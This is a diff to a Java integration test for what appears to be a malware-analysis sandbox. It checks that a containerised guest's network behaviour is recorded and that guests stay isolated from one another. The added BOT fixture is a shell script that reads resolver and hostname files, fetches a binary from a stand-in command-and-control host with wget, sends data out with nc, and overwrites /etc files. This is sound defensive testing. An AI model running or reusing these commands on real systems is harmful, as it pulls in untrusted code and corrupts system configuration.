@@ -1,5 +1,6 @@
 package org.malassay.environments.container;
 
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
@@ -19,6 +20,23 @@ import java.time.Instant;
 import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
+import org.malassay.sample.Sample;
+import org.malassay.environments.contract.ArmPrograms;
+import org.malassay.environment.Piece;
+import org.malassay.environment.Order;
+import org.malassay.environment.Opening;
+import org.malassay.environment.Limits;
+import org.malassay.environment.Guest;
+import org.malassay.environment.Execution;
+import org.malassay.environment.EnvironmentException;
+import org.malassay.environment.Environment;
+import org.malassay.behavior.ProgramStarted;
+import org.malassay.behavior.Question;
+import org.malassay.behavior.Origin;
+import org.malassay.behavior.EventSink;
+import org.malassay.behavior.Facet;
+import java.util.Optional;
+import java.util.EnumSet;
 import java.util.Map;
 import java.util.UUID;
 import java.util.concurrent.TimeUnit;
@@ -100,7 +118,7 @@ class ContainerInternetIT {
   }
 
   private InternetHelper helper() throws Exception {
-    return InternetHelper.start(engine, helperImage, run);
+    return InternetHelper.start(engine, helperImage, run, InternetHelper.RIGHTS);
   }
 
   /** Runs a shell's command in a container on the guest's side of a helper's network. */
@@ -214,6 +232,102 @@ class ContainerInternetIT {
     return Files.isReadable(file)
         ? List.of(Long.valueOf(Files.readString(file).strip()))
         : List.of();
+  }
+
+  private static final Limits LIMITS =
+      new Limits(Duration.ofSeconds(8), 1 << 20, 256 << 20, 128, 1, 64 << 20);
+
+  private Opening opening(Map<String, String> options) {
+    return new Opening(Options.of(options), LIMITS, run, EnumSet.allOf(Facet.class));
+  }
+
+  /** Bots ask for a name, fetch a program, and talk to an address of their own. */
+  private static final String BOT =
+      """
+      #!/bin/sh
+      cat /etc/resolv.conf /etc/hostname
+      busybox wget -qO /tmp/next http://cnc.example/bins/next.arm && tail -c +2 /tmp/next | head -c 3
+      echo hello | busybox nc -w 1 203.0.113.7 4000
+      echo stained >/etc/hostname
+      echo stained >/etc/resolv.conf
+      """;
+
+  @Test
+  void whatASampleSaysIsToldWithItsProcessAndTheNextGuestSeesNothingOfIt() throws Exception {
+    Sample bot = new ArmPrograms(folder).text("bot", BOT);
+    List<Event> events = Collections.synchronizedList(new ArrayList<>());
+    Evidence evidence = new Evidence(folder.resolve("bot"));
+    try (Environment environment = new ContainerProvider().open(opening(Map.of()))) {
+      assertThat(environment.observes()).containsEntry(Facet.NETWORK, Origin.NETWORK);
+      for (int i = 0; i < 3; i++) { // the third one has the helper of the first
+        try (Guest guest = environment.start()) {
+          guest.put(bot);
+          Execution execution = guest.run(Order.of(), i == 0 ? events::add : EventSink.NONE);
+          assertThat(execution.stdout().text())
+              .isEqualTo("nameserver 192.168.1.1\nmalassay-guest\nELF");
+          assertThat(execution.recording().of(Facet.NETWORK)).isEqualTo(FacetState.OBSERVED);
+          assertThat(guest.probe().available()).isTrue();
+          if (i == 0) {
+            guest.collect(evidence);
+          }
+        }
+      }
+    }
+    assertThat(events.stream().filter(Question.class::isInstance).map(Question.class::cast))
+        .extracting(it -> it.protocol() + " " + it.asked())
+        .contains("dns A cnc.example", "http GET http://cnc.example/bins/next.arm");
+    assertThat(events.stream().filter(Conversation.class::isInstance).map(Conversation.class::cast))
+        .filteredOn(it -> it.peer().port() == 4000 || it.peer().port() == 80)
+        .hasSize(2)
+        .allSatisfy(
+            it ->
+                assertThat(events.stream().filter(ProgramStarted.class::isInstance))
+                    .map(ProgramStarted.class::cast)
+                    .filteredOn(started -> started.process() == it.process().orElse(0))
+                    .extracting(ProgramStarted::program)
+                    .contains("/usr/bin/busybox"));
+    assertThat(evidence.index())
+        .extracting(Piece::name)
+        .contains(PacketFile.NAME, "conversations.jsonl.gz");
+    assertThat(Files.readString(evidence.folder().resolve(PacketFile.NAME), ISO_8859_1))
+        .contains("/usr/bin/busybox (process ");
+  }
+
+  @Test
+  void withoutAnInternetTheHeaderSaysWhy() throws Exception {
+    try (Environment none = new ContainerProvider().open(opening(Map.of("internet", "none")));
+        Guest guest = none.start()) {
+      assertThat(none.facts().get("network"))
+          .startsWith("nothing but its loopback (-Dinternet=none)");
+      assertThat(none.missing())
+          .containsEntry(Facet.NETWORK, "guests have no network (-Dinternet=none)");
+      guest.put(new ArmPrograms(folder).text("looks", "#!/bin/sh\nls /sys/class/net; hostname\n"));
+      assertThat(guest.run(Order.of(), EventSink.NONE).stdout().text())
+          .isEqualTo("lo\nmalassay-guest\n");
+    }
+  }
+
+  @Test
+  void whereItCannotBeHadTheHeaderSaysWhyUnlessItWasNamed() throws Exception {
+    GuestImage image = new GuestImage(guestImage, 80, List.of(), Optional.empty(), 1);
+    ContainerProvider.Internet refused =
+        () ->
+            InternetSupply.open(
+                engine, engine.info(), run, Options.of(Map.of()), List.of(Capability.NET_ADMIN));
+    try (ContainerEnvironment environment =
+        new ContainerEnvironment(Engine.find(new Timeouts(1)), image, LIMITS, run)) {
+      assertThat(ContainerProvider.connect(environment, opening(Map.of()), refused))
+          .startsWith("nothing but its loopback (no simulated Internet can be had: ")
+          .contains("it takes CAP_SYS_ADMIN and CAP_NET_ADMIN");
+      assertThat(environment.missing().get(Facet.NETWORK))
+          .startsWith("guests have no network (no simulated Internet can be had: ");
+      assertThatThrownBy(
+              () ->
+                  ContainerProvider.connect(
+                      environment, opening(Map.of("internet", "simulated")), refused))
+          .isInstanceOf(EnvironmentException.class)
+          .hasMessageStartingWith("-Dinternet=simulated cannot be had at this engine: ");
+    }
   }
 
   @Test
